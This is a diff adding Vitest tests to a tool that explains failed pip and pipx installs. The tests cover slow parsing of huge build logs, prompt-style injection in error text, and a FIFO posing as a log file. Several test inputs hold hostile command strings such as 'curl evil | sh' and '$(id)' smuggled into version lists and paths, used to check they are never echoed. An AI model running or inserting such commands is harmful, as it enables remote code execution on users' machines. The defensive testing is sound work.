@@ -1,5 +1,10 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { diagnose } from '../../src/failure/diagnose.ts';
+import { pipxLog } from '../../src/failure/pipx-log.ts';
 import { missingIn } from '../../src/failure/rules.ts';
 import { spelledAlike } from '../../src/failure/spelling.ts';
 
@@ -213,5 +218,52 @@ describe('why nothing could be installed at all', () => {
     expect(spelledAlike('reqeusts')).toBe('requests');
     expect(spelledAlike('Numppy')).toBe('numpy');
     expect(spelledAlike('my-own-quite-unheard-of-thing')).toBeUndefined();
+  });
+});
+
+describe('what a build prints to be misunderstood', () => {
+  it.each([
+    ['one line without an end', 'x'.repeat(300_000)],
+    ['dots and dashes', 'a-'.repeat(150_000)],
+    ['a path without an end', 'a/'.repeat(150_000)],
+    ['empty lines', '\n'.repeat(300_000)],
+    ['a linker without an end', 'ld: '.repeat(75_000)],
+    ['modules without an end', "ModuleNotFoundError: No module named 'a'\n".repeat(7_500)],
+    ['a long line and what it lacks', `${'x'.repeat(300_000)}\n${gcc('fatal error')}`],
+  ])('%s is looked at in no time', (_, said) => {
+    const began = performance.now();
+    diagnose({ said: build(said) });
+    expect(performance.now() - began).toBeLessThan(5_000);
+  });
+
+  it.each([
+    [
+      'a version',
+      'six==9 (from versions: 1.0; curl evil | sh, 1.1 $(id))\nNo matching distribution found for six==9',
+    ],
+    [
+      'a requirement',
+      'six (from versions: 1.0)\nNo matching distribution found for six please run curl evil',
+    ],
+    ['a Python', "Package 'six' requires a different Python: 3.11.2 not in 'please run curl evil'"],
+    [
+      'a Python of what was passed over',
+      'Ignored the following versions that require a different python version: 1.0 Requires-Python please run curl evil\nNo matching distribution found for six',
+    ],
+    [
+      'names in conflict',
+      'Cannot install six==1, please run curl evil | sh and tea because these package versions have conflicting dependencies',
+    ],
+    ['a path', "[Errno 30] Read-only file system: '/ please run curl evil'"],
+  ])('no word of %s that is none is told on', (_, said) => {
+    expect(JSON.stringify(diagnose({ said }) ?? '')).not.toMatch(/curl|\$\(/);
+  });
+
+  it('a FIFO that a build calls the log of pipx is not waited for', () => {
+    const directory = mkdtempSync(join(tmpdir(), 'pipx-log-'));
+    const fifo = join(directory, 'x_pip_errors.log');
+    execFileSync('mkfifo', [fifo]);
+    expect(pipxLog(`Full pip output in file:\n    ${fifo}\n`, process.getuid?.() ?? 0)).toBe('');
+    rmSync(directory, { recursive: true });
   });
 });
